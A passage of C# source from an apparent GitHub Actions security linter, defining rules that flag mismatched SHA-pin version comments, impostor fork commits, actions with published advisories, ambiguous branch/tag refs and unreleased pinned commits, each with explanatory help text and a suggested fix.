                  env:
                    TOKEN: ${{ secrets.UPLOAD_TOKEN }}
            ```
            """,
    };

    public static Rule RefVersionMismatch { get; } = new()
    {
        Id = "GHA037",
        Name = "ref-version-mismatch",
        Title = "Version comment of a SHA pin names another release",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [451, 1357],
        Aliases = ["ref-version-mismatch"],
        Help = """
            Reviewers and update bots read the comment after a SHA pin (`@<sha> # v4.2.2`) as the version in use. When
            the commit is a different release, or not a release at all, a reviewer approves code they did not look at:
            a hand-edited SHA pointing at a fork's commit hides behind an honest-looking comment.

            Judged offline, from what is known locally about which commit each tag is: the pins `kingsnake fix` uses
            (`.github/kingsnake-pins.toml` or `--pins FILE`, the clones it names, then the built-in list of releases
            seen pinned in real workflows; see unpinned-uses) and the `--action-data` snapshot. A commit nobody knows
            and a floating comment (`# v4`) on a commit of that major line are not reported; a missing or non-version
            comment is reported to the pedantic persona only (low). Confidence is medium when the only evidence is
            that the commit is another release and the tag list is not known to be complete.

            **Fix:** correct the comment (a fix is offered), or, if the comment is right, pin the commit its tag names:

            ```yaml
            - uses: actions/setup-python@f677139bbe7f9c59b41e40162b753c062f5d49a3  # v5.2.0
            ```
            """,
    };

    public static Rule ImpostorCommit { get; } = new()
    {
        Id = "GHA038",
        Name = "impostor-commit",
        Title = "Pinned commit exists only in a fork",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [829, 506],
        Aliases = ["impostor-commit"],
        Help = """
            GitHub serves a commit of any fork through the parent repository's name: `uses: actions/checkout@<sha>` runs
            the commit even when it was pushed to someone's fork and never merged. A SHA pin that no branch or tag of the
            named repository reaches is such an impostor, and it carries whatever the fork's author put in it.

            Runs only with repository data (`--action-data FILE`; see `ActionDataSnapshot` for the format), and only
            for repositories whose snapshot lists `reachable_commits` (`git rev-list --branches --tags`); commits the
            data cannot place are not reported. pre-commit `rev:` SHAs are checked too.

            **Fix:** replace the SHA with the commit of a real release tag of the repository, and find out who added it.
            """,
    };

    public static Rule KnownVulnerableActions { get; } = new()
    {
        Id = "GHA039",
        Name = "known-vulnerable-actions",
        Title = "Action version with a published security advisory",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [1395],
        Aliases = ["known-vulnerable-actions"],
        Help = """
            The action version in use is affected by a GitHub security advisory (ecosystem `actions`): an injection in
            the action's own scripts, a secret it logs, or a release that was compromised. The severity is the
            advisory's.

            Runs only with repository data (`--action-data FILE`), whose `advisories` are GitHub's advisory records. The
            version is resolved like zizmor does: a SHA pin through the tags that point at it, a tag through its commit
            to the most precise release tag there. A floating tag (`@v4`) that cannot be resolved is reported only when
            every release it can stand for is vulnerable; an unknown commit is not reported.

            **Fix:** update to the first patched version the finding names (and pin its commit).
            """,
    };

    public static Rule RefConfusion { get; } = new()
    {
        Id = "GHA040",
        Name = "ref-confusion",
        Title = "Ref names both a branch and a tag",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [706, 829],
        Aliases = ["ref-confusion"],
        Help = """
            `uses: owner/repo@v1` does not say whether `v1` is a tag or a branch. When the repository has both, which one
            runs depends on GitHub's resolution order, and anyone who can push a branch named like a release can
            confuse readers (and tools) about the code that runs.

            Runs only with repository data (`--action-data FILE`) that lists the repository's tags and branches.

            **Fix:** pin the full commit SHA of the release you mean (`@<sha> # v1.2.3`).
            """,
    };

    public static Rule StaleActionRefs { get; } = new()
    {
        Id = "GHA041",
        Name = "stale-action-refs",
        Title = "SHA pin that is no release",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Cwe = [1357],
        Aliases = ["stale-action-refs"],
        Help = """
            The pinned commit is not the target of any tag: it is an unreleased commit of a branch, picked by hand or
            left from a long-gone pre-release. Update bots cannot tell which release it corresponds to, so it silently
            stops being updated. Pedantic persona only.

            Runs only with repository data (`--action-data FILE`) that lists the repository's tags.

            **Fix:** pin the commit of a release tag and keep the tag in a comment (`@<sha> # v1.2.3`).
            """,
    };

    public static IReadOnlyList<Rule> All { get; } =
    [
        TemplateInjection, DangerousTriggers, ExcessivePermissions, Artipacked, UnpinnedUses, UseTrustedPublishing,
        InsecureCommands, HardcodedContainerCredentials, SecretsInherit, OverprovisionedSecrets, BotConditions, UnsoundCondition,
        CachePoisoning, GitHubEnv, UnpinnedImages, SelfHostedRunner, AnonymousDefinition, ConcurrencyLimits,
        UnsoundContains, UnsoundTernary, UnredactedSecrets, Obfuscation, UndocumentedPermissions, ForbiddenUses,
        SuperfluousActions, AdhocPackages, UnpinnedTools, Misfeature, GitHubApp, SelfRepository, ArchivedUses, TyposquatUses,
        DependabotCooldown, DependabotExecution, InsecureUrlScheme, SecretsOutsideEnv, RefVersionMismatch, ImpostorCommit,
        KnownVulnerableActions, RefConfusion, StaleActionRefs,
    ];

    // after All: static properties are initialized in the order they are written
    /// <summary>The workflow area: GitHub Actions workflows and actions, with zizmor's audit names as aliases.</summary>
    public static AuditArea AuditArea { get; } = new(Area, "GitHub Actions workflows", All) { Aliases = ["actions"] };
}
